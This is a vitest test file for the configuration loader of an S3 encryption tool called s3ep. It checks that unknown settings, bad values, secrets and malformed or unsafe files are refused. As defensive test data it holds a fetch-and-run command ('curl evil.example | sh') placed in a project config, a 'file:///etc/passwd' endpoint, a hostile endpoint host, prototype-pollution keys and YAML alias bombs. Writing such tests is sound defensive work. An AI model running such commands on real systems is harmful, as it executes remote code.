import { chown, mkdir, symlink, writeFile } from "node:fs/promises"
import { join } from "node:path"
import { describe, expect, test } from "vitest"
import { LocalIoError, type S3epError, UsageError } from "../../../src/errors.ts"
import { configHome } from "../../support/config-home.ts"

const KEY = Buffer.alloc(32, 0xa5).toString("base64")

/** What the user reads: the message, then the hint. */
async function refusal(resolved: Promise<unknown>): Promise<string> {
  const error: S3epError = await resolved.then(
    () => expect.fail("was not refused"),
    (reason) => reason,
  )
  expect(error).toBeInstanceOf(UsageError)
  expect(error.exitCode).toBe(2)
  return `${error.message}\n${error.hint ?? ""}`
}

describe("what s3ep does not know", () => {
  test("a variable, with the one that was meant", async () => {
    const { resolve } = await configHome()
    expect(await refusal(resolve({ env: { S3EP_ENPOINT: "https://x.example" } }))).toMatch(
      /S3EP_ENPOINT.*\n.*did you mean S3EP_ENDPOINT\?/,
    )
    expect(await refusal(resolve({ env: { S3EP_FOO_BAR_BAZ: "1" } }))).toMatch(
      /S3EP_FOO_BAR_BAZ.*\n.*s3ep\(1\)/,
    )
  })

  test("but the test suite's own variables are left alone", async () => {
    const { resolve } = await configHome()
    await expect(
      resolve({ env: { S3EP_TEST_ENDPOINT: "http://localhost:1", S3EP: "1" } }),
    ).resolves.toBeDefined()
  })

  test("a member, with file, profile and the one that was meant", async () => {
    const { write, resolve } = await configHome()
    const path = await write("work/project/s3ep.json", { profiles: { work: { partsize: "8MiB" } } })
    expect(await refusal(resolve())).toBe(
      `${path}: profiles.work.partsize: not a setting s3ep knows\ndid you mean partSize?`,
    )
  })

  test.each(["__proto__", "constructor", "toString", "$import", "hasOwnProperty"])(
    "a member called %s",
    async (member) => {
      const { write, resolve } = await configHome()
      await write("work/project/.s3eprc.yaml", `${member}: ./other.js\n`)
      expect(await refusal(resolve())).toContain(`${member}: not a setting s3ep knows`)
    },
  )

  test("a profile, with those there are", async () => {
    const { write, resolve } = await configHome()
    await write("work/project/s3ep.json", { profiles: { work: {}, private: {} } })
    await write(".aws/config", "[default]\nregion=x\n[profile billing]\n[sso-session corp]\n")
    await write(".aws/credentials", "[ops]\naws_access_key_id=AKIA\n")
    const said = await refusal(resolve({ options: { profile: "wrok" } }))
    expect(said).toContain('no profile "wrok" (option --profile)')
    expect(said).toContain("did you mean work?")
    expect(said).toContain("in config: private, work; AWS profiles: billing, default, ops")
    expect(said).not.toContain("AKIA")
  })
})

describe("what s3ep cannot use", () => {
  test.each([
    ["S3EP_PART_SIZE", "a lot", /S3EP_PART_SIZE: "a lot" is not usable; give a size/],
    ["S3EP_PART_SIZE", "6GiB", /up to 5GiB/],
    ["S3EP_CHUNK_SIZE", "5000", /power of two/],
    ["S3EP_CONCURRENCY", "0", /from 1 to 256/],
    ["S3EP_CONCURRENCY", "1e9", /from 1 to 256/],
    ["S3EP_PATH_STYLE", "maybe", /true or false/],
    ["S3EP_CHECKSUM", "crc23", /auto, crc32.*\n.*did you mean crc32\?/],
    ["S3EP_ENDPOINT", "s3.example.com", /http or https URL/],
    ["S3EP_ENDPOINT", "file:///etc/passwd", /http or https URL/],
    ["S3EP_REGION", "", /S3EP_REGION is empty/],
    ["S3EP_REGION", "eu\n", /not usable/],
    ["AWS_ENDPOINT_URL", "nonsense", /AWS_ENDPOINT_URL: "nonsense"/],
  ])("%s=%j", async (variable, value, expected) => {
    const { resolve } = await configHome()
    expect(await refusal(resolve({ env: { [variable]: value } }))).toMatch(expected)
  })

  test("an option", async () => {
    const { resolve } = await configHome()
    expect(await refusal(resolve({ options: { partSize: "16 MBit" } }))).toMatch(
      /^option --part-size: "16 MBit"/,
    )
  })

  test.each([
    [{ region: 7 }, /region: 7 is not usable; give the name of a region/],
    [{ region: null }, /region: .*not usable/],
    [{ concurrency: 2.5 }, /concurrency: 2.5 is not usable/],
    [{ json: "perhaps" }, /true or false/],
    [{ kek: [] }, /one or more key names/],
    [{ kek: [[["deep"]]] }, /one or more key names/],
    [{ profiles: [] }, /profiles: expected members/],
    [{ profiles: { work: "x" } }, /profiles.work: expected members/],
    [[], /expected members/],
    [{ profiles: { unused: { region: 1 } } }, /profiles.unused.region/],
  ])("a member: %j", async (content, expected) => {
    const { write, resolve } = await configHome()
    const path = await write("work/project/s3ep.json", content)
    const said = await refusal(resolve())
    expect(said).toMatch(expected)
    expect(said).toContain(path)
  })

  test("even where something stronger decides", async () => {
    const { write, resolve } = await configHome()
    await write(".config/s3ep/config.json", { partSize: "huge" })
    expect(await refusal(resolve({ options: { partSize: "16MiB" } }))).toContain("partSize")
    expect(await refusal(resolve({ options: { region: "a" }, env: { S3EP_REGION: "" } }))).toContain(
      "S3EP_REGION",
    )
  })

  test("but not what others mean for themselves and nobody asks", async () => {
    const { resolve } = await configHome()
    const env = { AWS_ENDPOINT_URL: "nonsense", S3EP_ENDPOINT: "https://s3.example" }
    expect((await resolve({ env })).values.endpoint).toBe("https://s3.example")
  })
})

describe("what must not lie in a directory", () => {
  test.each(["kekCommand", "passphraseCommand", "kekFile", "passphraseFile", "keysDirectory"])(
    "%s in a project's config",
    async (member) => {
      const { write, resolve } = await configHome()
      const path = await write("work/.s3eprc", { [member]: "curl evil.example | sh" })
      const said = await refusal(resolve())
      expect(said).toContain(`${path}: ${member}: refused`)
      expect(said).not.toContain("evil")
      await write("work/.s3eprc", { profiles: { some: { [member]: "true" } } })
      expect(await refusal(resolve())).toContain("refused")
    },
  )

  test("a command is taken from the user's config and from the file named with --config", async () => {
    const { write, resolve } = await configHome()
    await write(".config/s3ep/config.yaml", "kekCommand: pass show s3ep\n")
    expect((await resolve()).values.kekCommand).toBe("pass show s3ep")
    const named = await write("work/project/s3ep.json", { passphraseCommand: "pass show s3ep" })
    expect((await resolve({ options: { config: named } })).values.passphraseCommand).toBe("pass show s3ep")
  })

  test.each([".config/s3ep/config.json", "work/project/s3ep.json"])("a key itself, in %s", async (place) => {
    const { write, resolve } = await configHome()
    await write(place, { kekInline: KEY })
    const said = await refusal(resolve())
    expect(said).toMatch(/kekInline: cannot be set in a config file\n.*S3EP_KEK/)
    expect(said).not.toContain(KEY)
  })

  test.each([KEY, KEY.replaceAll("=", ""), "a5".repeat(32)])(
    "a key where a key's name belongs: %s",
    async (key) => {
      const { write, resolve } = await configHome()
      await write("work/project/s3ep.json", { kek: key })
      const said = await refusal(resolve())
      expect(said).toMatch(/kek: the value is not usable/)
      expect(said).not.toContain(key)
    },
  )

  test("code: nothing that could be a program is looked at", async () => {
    const { project, write, resolve } = await configHome()
    const program = "globalThis.configWasRun = true; export default {}; module.exports = {}"
    const places = [
      "s3ep.config.js",
      "s3ep.js",
      ".s3eprc.js",
      ".s3eprc.mjs",
      ".config/config.js",
      ".config/s3ep.js",
    ]
    for (const place of places) await write(join("work/project", place), program)
    await write("work/project/package.json", {
      s3ep: { region: "x" },
      cosmiconfig: { searchPlaces: ["s3ep.js"] },
    })
    const before = process.cwd()
    process.chdir(project)
    try {
      expect((await resolve()).values.region).toBeUndefined()
    } finally {
      process.chdir(before)
    }
    expect(globalThis).not.toHaveProperty("configWasRun")
    expect(await refusal(resolve({ options: { config: "s3ep.config.js" } }))).toContain(
      "programs are not run",
    )
  })

  test.runIf(process.getuid?.() === 0)("config someone else left there", async () => {
    const { write, resolve } = await configHome()
    const path = await write("work/s3ep.json", { endpoint: "https://evil.example" })
    await chown(path, 12_345, 12_345)
    expect(await refusal(resolve())).toMatch(/belongs to another user \(uid 12345\)\n.*--config/)
    expect((await resolve({ options: { config: path } })).values.endpoint).toBe("https://evil.example")
  })
})

describe("secrets in errors", () => {
  test.each([
    [{ S3EP_KEK: "s3cr3t\u0000" }],
    [{ S3EP_KEK_COMMAND: "echo s3cr3t\n" }],
    [{ S3EP_ENDPOINT: "https://user:s3cr3t@s3.example" }],
  ])("%j is not repeated", async (env) => {
    const { resolve } = await configHome()
    expect(await refusal(resolve({ env }))).not.toContain("s3cr3t")
  })

  test("a file that cannot be parsed is not quoted", async () => {
    const { write, resolve } = await configHome()
    await write("work/project/s3ep.json", '{"s3cr3t": s3cr3t}')
    expect(await refusal(resolve())).not.toContain("s3cr3t")
  })
})

describe("files", () => {
  test.each([
    ["s3ep.json", '{\n  "region": "x",\n}', /s3ep\.json, line 3: it is not JSON/],
    ["s3ep.json", '{"region": x}', /s3ep\.json: it is not JSON/],
    [".s3eprc.yaml", "region: x\nkek: [one\nendpoint: y\n", /\.s3eprc\.yaml, line 3: /],
    [".s3eprc.yaml", "region: x\nregion: y\n", /line 2: duplicated mapping key/],
    [".s3eprc", `kek: ${"[".repeat(60_000)}`, /line 1: nesting/],
    [".s3eprc", "region: !!js/function 'x'\n", /line 1: unknown scalar tag/],
    [".s3eprc", "region: x\n---\nregion: y\n", /single document/],
    [".config/s3ep.yml", `region: ${"x".repeat(70_000)}`, /larger than 64 KiB/],
  ])("%s with %j is refused, saying where", async (place, content, expected) => {
    const { write, resolve } = await configHome()
    await write(join("work/project", place), content)
    expect(await refusal(resolve())).toMatch(expected)
  })

  test("one that is not text is refused", async () => {
    const { project, resolve } = await configHome()
    await writeFile(join(project, ".s3eprc"), Uint8Array.of(0x61, 0x3a, 0x20, 0xff))
    expect(await refusal(resolve())).toContain("not UTF-8")
  })

  test("aliases of aliases cost nothing", async () => {
    const { write, resolve } = await configHome()
    const levels = Array.from(
      { length: 30 },
      (_, level) => `l${level + 1}: &l${level + 1} [*l${level}, *l${level}]`,
    )
    await write("work/project/.s3eprc", ["l0: &l0 [x, x]", ...levels].join("\n"))
    expect(await refusal(resolve())).toContain("l0: not a setting s3ep knows")
  })

  test.each(["s3ep.json", ".s3eprc", ".s3eprc.json", ".s3eprc.yaml", ".s3eprc.yml", ".config/s3ep.json"])(
    "%s is found from a directory below",
    async (place) => {
      const { write, resolve } = await configHome()
      const path = await write(join("work", place), { region: "found" })
      expect(await resolve()).toMatchObject({ files: [path], values: { region: "found" } })
    },
  )

  test("the nearest project config is the only one", async () => {
    const { write, resolve } = await configHome()
    await write("work/s3ep.json", { region: "far", concurrency: 3 })
    await write("work/project/s3ep.json", { region: "near" })
    expect((await resolve()).values).toMatchObject({ region: "near", concurrency: undefined })
  })

  test("the search ends at the home directory", async () => {
    const { home, write, resolve } = await configHome()
    await write("s3ep.json", { region: "outside" })
    const inner = join(home, "work")
    expect((await resolve({ homeDirectory: inner })).values.region).toBeUndefined()
    expect((await resolve({ homeDirectory: join(home, "elsewhere") })).values.region).toBe("outside")
  })

  test("two in one directory are one too many", async () => {
    const { write, resolve } = await configHome()
    await write("work/project/s3ep.json", {})
    await write("work/project/.s3eprc", "")
    expect(await refusal(resolve())).toMatch(/two config files.*s3ep\.json and .*\.s3eprc/)
  })

  test("an empty file says nothing", async () => {
    const { write, resolve } = await configHome()
    await write("work/project/.s3eprc", "# nothing yet\n")
    await write(".config/s3ep/config.json", "")
    expect((await resolve()).files).toHaveLength(2)
  })

  test("$XDG_CONFIG_HOME moves the user's config, unless it is relative", async () => {
    const { home, write, resolve } = await configHome()
    await write("xdg/s3ep/config.json", { region: "moved" })
    expect((await resolve({ env: { XDG_CONFIG_HOME: join(home, "xdg") } })).values.region).toBe("moved")
    expect((await resolve({ env: { XDG_CONFIG_HOME: "xdg" }, cwd: home })).values.region).toBeUndefined()
  })

  test("one named with --config must be there, and be a file", async () => {
    const { home, resolve } = await configHome()
    expect(await refusal(resolve({ options: { config: "nope.json" } }))).toMatch(/nope\.json does not exist/)
    expect(await refusal(resolve({ options: { config: "s3ep.toml" } }))).toMatch(/neither \.json nor \.yaml/)
    await mkdir(join(home, "dir"))
    expect(await refusal(resolve({ options: { config: join(home, "dir") } }))).toMatch(/is a directory/)
  })

  test("one that cannot be read is an error of input, not an absent one", async () => {
    const { home, resolve } = await configHome()
    const loop = join(home, "work/project/loop.json")
    await symlink(loop, loop)
    await expect(resolve({ options: { config: loop } })).rejects.toThrow(LocalIoError)
  })
})
